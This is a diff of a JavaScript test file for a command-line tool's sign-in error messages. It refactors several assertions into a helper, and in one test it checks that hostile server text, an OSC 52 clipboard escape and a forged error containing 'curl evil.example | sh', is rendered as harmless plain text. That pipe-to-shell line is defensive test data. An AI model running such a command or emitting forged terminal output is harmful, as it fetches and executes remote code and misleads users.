@@ -156,12 +156,8 @@ describe('there is no token, and an error', () => {
       name,
       given(async (bed) => {
         make(bed);
-        const ran = await bed.noCredential();
-        assert.ok(bed.cluster.counts.login >= 1);
-        assert.match(
-          ran.stderr,
-          /^error: http:\S+ (?:answered the sign-in with something|gave a sign-in that has ended)/,
-        );
+        const told = /^error: http:\S+ (?:answered the sign-in with something|gave a sign-in that has ended)/;
+        await bed.noCredential({ told });
       }),
     );
   }
@@ -217,11 +213,8 @@ describe('words of a refusal are plain text on single lines', () => {
       bed.cluster.faults.routes.login = {
         answer: { status: 403, body: { message: 'outer', advice: ['one', 'two'], cause: { message: 'inner' } } },
       };
-      const ran = await bed.noCredential();
-      assert.match(
-        ran.stderr,
-        /^error: http:\S+ refused the sign-in: outer: inner \(HTTP 403\)\nhint: one\nhint: two\n$/,
-      );
+      const told = /^error: http:\S+ refused the sign-in: outer: inner \(HTTP 403\)\nhint: one\nhint: two\n$/;
+      await bed.noCredential({ told });
     }),
   );
 
@@ -231,8 +224,8 @@ describe('words of a refusal are plain text on single lines', () => {
       given(async (bed) => {
         const body = message(evilTexts['an OSC 52 clipboard'], [evilTexts['a forged error']]);
         bed.cluster.faults.routes.login = { answer: { status, body } };
-        const ran = await bed.noCredential();
-        assert.match(ran.stderr, /^error: http:\S+ .*\nhint: x error: forged hint: curl evil\.example \| sh\n$/);
+        const told = /^error: http:\S+ .*\nhint: x error: forged hint: curl evil\.example \| sh\n$/;
+        await bed.noCredential({ told });
       }),
     );
   }
